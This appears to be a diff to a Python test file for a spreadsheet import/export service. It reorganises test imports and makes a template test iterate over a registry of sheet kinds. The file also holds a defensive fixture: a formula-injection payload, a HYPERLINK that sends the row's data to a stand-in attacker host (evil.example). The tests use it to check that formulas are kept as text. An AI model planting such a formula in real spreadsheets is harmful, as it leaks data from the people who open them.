@@ -20,12 +20,14 @@ from app.models import Event, Licence, Person, Supporter
 from app.services.core.db import Database, open_database
 from app.services.events import io as event_io
 from app.services.licences import io as spreadsheet
+from app.services.sheet_kinds import SHEET_KINDS
 from app.services.spreadsheet import sheetfile
 from app.services.spreadsheet.sheetfile import CSV_FORMULA_STARTS, csv_guard, csv_unguard
 from app.services.supporters import io as supporter_io
-from tests.services import test_event_io, test_supporter_io
 from tests.services.conftest import setup_tehran_office, template_row
+from tests.services.events import test_event_io
 from tests.services.supporter_fixtures import issue
+from tests.services.supporters import test_supporter_io
 
 #: The issue's example: a link that sends the row's data elsewhere when clicked.
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")'
@@ -176,8 +178,9 @@ def test_import_report_keeps_formulas_as_text(db: Database, tmp_path: Path, suff
 
 
 def test_templates_hold_text_only(tmp_path: Path) -> None:
-    for write in (spreadsheet.write_template, supporter_io.write_template, event_io.write_template):
-        path = write(tmp_path / "template.xlsx")
+    assert {"licences", "supporters", "events"} <= set(SHEET_KINDS)
+    for kind in SHEET_KINDS.values():
+        path = kind.write_template(tmp_path / f"{kind.name}.xlsx")
         for sheet in openpyxl.load_workbook(path).worksheets:
             for row in sheet.iter_rows():
                 assert all(c.data_type == "s" for c in row if c.value is not None)
